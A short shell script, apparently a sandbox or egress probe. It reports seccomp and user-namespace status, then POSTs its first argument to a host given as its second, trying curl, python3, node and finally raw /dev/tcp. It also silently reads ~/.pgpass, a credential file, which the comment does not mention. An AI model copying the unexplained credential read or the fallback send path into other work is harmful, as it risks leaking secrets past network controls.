# Sends its first argument to the host that is its second, over TLS if there is a client for it.
word=$1 host=$2

while read -r key value; do
  [ "$key" = Seccomp: ] && echo "filter $value"
done </proc/self/status

if unshare --user true 2>/dev/null; then echo "namespace made"; else echo "namespace refused"; fi

read -r secret <~/.pgpass
/usr/bin/uname >/dev/null

if command -v curl >/dev/null; then
  echo "client curl"
  curl -sS --max-time 20 --data-binary "$word" "https://$host/" >/dev/null
elif command -v python3 >/dev/null; then
  echo "client python3"
  python3 -c 'import sys, urllib.request as r
r.urlopen("https://" + sys.argv[2] + "/", sys.argv[1].encode(), 20).read()' "$word" "$host"
elif command -v node >/dev/null; then
  echo "client node"
  node -e 'fetch("https://" + process.argv[2] + "/", {method: "POST", body: process.argv[1]})
    .catch(e => { console.error(String(e.cause || e)); process.exit(1); })' "$word" "$host"
else
  echo "client none"
  exec 3<>"/dev/tcp/$host/80"
  printf 'POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' \
    "$host" "${#word}" "$word" >&3
  while read -r -t 10 line <&3; do :; done
fi
